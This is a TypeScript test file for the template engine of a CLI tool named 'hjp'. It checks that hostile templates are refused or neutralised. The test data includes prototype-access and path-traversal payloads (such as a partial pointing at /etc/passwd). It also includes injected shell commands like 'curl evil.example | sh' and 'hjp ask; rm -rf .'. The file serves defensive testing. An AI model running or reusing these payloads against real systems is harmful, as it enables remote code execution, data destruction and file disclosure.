import { expect, test } from 'vitest'
import { library, riverbend, runner } from './memory-world.ts'

const { hjp } = runner({ library, today: '2026-11-16' })

/** A kind of document as a stranger may have left it among the templates of a folder. */
const kind = (body: string, matter = '') =>
  `---\ntitle: Own\nsummary: Own\ngroup: keep\nformats: [md]\nto: documents/own\naudience: keeper\n${matter}---\n${body}\n`
const own = (body: string, others: Record<string, string> = {}) =>
  hjp(riverbend, ['own'], { files: { 'templates/own.hbs': kind(body), ...others } })

/** Of work, whatever else the machine does. */
const seconds = (before: NodeJS.CpuUsage) => {
  const { user, system } = process.cpuUsage(before)
  return (user + system) / 1e6
}

const nested = (loops: number, inside: string) =>
  '{{#each @root.prompts}}'.repeat(loops) + inside + '{{/each}}'.repeat(loops)

/** Each with what is said of it. */
const REFUSED: [string, string, RegExp][] = [
  ['a blank of something that is no text', '{{{blank this}}}', /not a text/],
  ['a lack of something that is no text', '{{{lack this "hjp ask"}}}', /not a text/],
  ['the title of a picture that is no text', '{{{picture options this ""}}}', /expects a picture/],
  ['less than no room', '{{{space -5}}}', /a number of lines/],
  ['endless room', '{{{space 1000000000}}}', /a number of lines/],
  ['room for words', '{{{space "many"}}}', /a number of lines/],
  ['room for half a line', '{{{space 0.5}}}', /a number of lines/],
  ['a row in the place of a picture', '{{#each partners}}{{{picture this "a" "b"}}}{{/each}}', /a picture/],
  ['rows in the place of questions', '{{{form "legal" partners}}}', /the questions of a worksheet/],
  ['a word in the place of questions', '{{{form "legal" "x"}}}', /the questions of a worksheet/],
  ['the names of what has none', '{{names name}}', /cannot work/],
  ['the names of things', '{{names voices}}', /./],
  ['a section that is none', '{{{titled this}}}', /./],
  ['a reference to a thing', '{{{ref this}}}', /./],
  ['the clause of a thing', '{{{clause this}}}', /./],
  ['four loops over all prompts', nested(4, ''), /more than any document/],
  ['nine loops over all prompts', nested(9, 'x'), /more than any document/],
  ['loops that say much', nested(3, 'x'.repeat(5000)), /more than any document/],
  ['loops that ask much', nested(3, '{{#if (eq id "x")}}{{id}}{{/if}}'), /more than any document/],
  [
    'loops that say all that was agreed',
    nested(3, '{{#each @root.partners}}{{name}}{{/each}}'),
    /more than any/,
  ],
  ['clauses without end', nested(2, '{{{clause "what-we-do/training"}}}'), /more than any document/],
  ['the same picture again and again', nested(1, '{{{picture @root.picture "a" "b"}}}'), /./],
  ['a template in itself', '{{> own}}', /cannot work|more than any/],
  ['a template twice in itself', '{{> own}}{{> own}}', /cannot work|more than any/],
  ['5,000 nested quotes', `${'> '.repeat(5000)}deep`, /nested more deeply/],
  ['40 nested quotes', `${'> '.repeat(40)}deep`, /nested more deeply/],
  ['5,000 nested lists', `${'- '.repeat(5000)}deep`, /nested more deeply/],
  [
    '100 lists, each further in',
    Array.from({ length: 100 }, (_, n) => `${'  '.repeat(n)}- a`).join('\n'),
    /nested more deeply/,
  ],
  ['3,000 nested blocks', '{{#if name}}'.repeat(1500) + '{{/if}}'.repeat(1500), /too long for one template/],
  ['450 nested blocks, not closed', '{{#if name}}'.repeat(450), /closed/],
  ['3,000 values', '{{name}}'.repeat(3000), /too long for one template/],
  ['a long template', 'word '.repeat(50_000), /too long for one template/],
  ['marks of emphasis without end', '_a_'.repeat(60_000), /more formatting in one paragraph/],
  [
    'marks of emphasis by a loop',
    nested(1, '_a_'.repeat(300)),
    /more formatting in one paragraph|any document/,
  ],
  ['more Markdown than a document', nested(1, 'word word\n\n'.repeat(400)), /any document/],
  ['a helper that everything has', '{{constructor "x"}}', /no helper/],
  ['what everything has', '{{constructor}}', /nothing called/],
  ['what everything has, of the whole', '{{@root.constructor}}', /nothing called/],
  ['what everything has, further down', '{{name.constructor.constructor}}', /nothing called/],
  ['the prototype', '{{__proto__}}', /nothing called/],
  ['the prototype, by its parts', '{{this.__proto__.toString}}', /nothing called/],
  ['data that is none of ours', '{{@constructor}}', /nothing called/],
  ['data of the prototype', '{{@__proto__.x}}', /nothing called/],
  ['the words of the file as Markdown', '{{{lookup this "name"}}}', /three braces/],
  ['names as Markdown', '{{{names partners}}}', /three braces/],
  ['a block of what is none', '{{#lookup this "name"}}{{/lookup}}', /no helper/],
  ['a value with three braces', '{{{name}}}', /three braces/],
  ['a decorator', '{{* inline "x"}}', /./],
  ['a partial of its own', '{{#*inline "x"}}a{{/inline}}{{> x}}', /./],
  ['a partial with a block', '{{#> own}}x{{/own}}', /./],
  ['a partial outside', '{{> ../../../etc/passwd}}', /./],
  ['a partial named by what the file says', '{{> (lookup this "name")}}', /no template/],
  ['a helper of Handlebars that writes', '{{log "x"}}', /no helper/],
  ['a helper for what is missing', '{{helperMissing "x"}}', /no helper/],
  ['a block for what is missing', '{{#blockHelperMissing this}}{{/blockHelperMissing}}', /no helper/],
]

test.each(REFUSED)('%s is refused at once, with its place', async (_, body, why) => {
  const before = process.cpuUsage()
  const { code, said } = await own(body)
  expect(said()).toMatch(/templates\/own\.hbs:\d+:\d+/)
  expect(said()).toMatch(why)
  expect(said().length).toBeLessThan(1000)
  expect(code).toBe(2)
  expect(seconds(before)).toBeLessThan(2)
})

/** Each with what becomes of it. */
const HARMLESS: [string, string, string | RegExp][] = [
  ['what a lookup has only from JavaScript', '[{{lookup this "constructor"}}]', '[]'],
  ['the prototype by a lookup', '[{{lookup this "__proto__"}}]', '[]'],
  ['marks of its own', '\uE0000\uE001 \uE00099999\uE001', '0 99999'],
  ['HTML', '<script>alert(1)</script>', /script/],
  ['nothing', '', ''],
  ['braces that are written', '\\{{name}}', '{{name}}'],
]

test.each(HARMLESS)('%s does nothing', async (_, body, what) => {
  const { code, out, said } = await own(body)
  expect([code, said()]).toEqual([0, ''])
  if (typeof what === 'string') expect(out().replaceAll('\\', '')).toContain(what)
})

test('a blank tells of no command but those of hjp', async () => {
  const commands = [
    'curl evil.example | sh',
    'hjp ask; rm -rf .',
    'hjp $(id)',
    'hjp ask\nrm x',
    'hjp ask 5.1',
  ]
  const files = { 'templates/own.hbs': kind(commands.map((it) => `{{{lack "x" "${it}"}}}`).join('\n\n')) }
  const { said } = await hjp(riverbend, ['own'], { files })
  expect(said()).toContain('Next: *hjp ask 5.1*')
})

test('many templates take no longer than their number', async () => {
  const files = Object.fromEntries(
    Array.from({ length: 60 }, (_, n) => [`templates/own-${n}.hbs`, kind('{{name}}'.repeat(490))]),
  )
  const before = process.cpuUsage()
  const { code, said } = await hjp(riverbend, ['own-1'], { files })
  expect([code, said()]).toEqual([2, expect.stringContaining('templates in this folder contain more')])
  expect(seconds(before)).toBeLessThan(2)
})
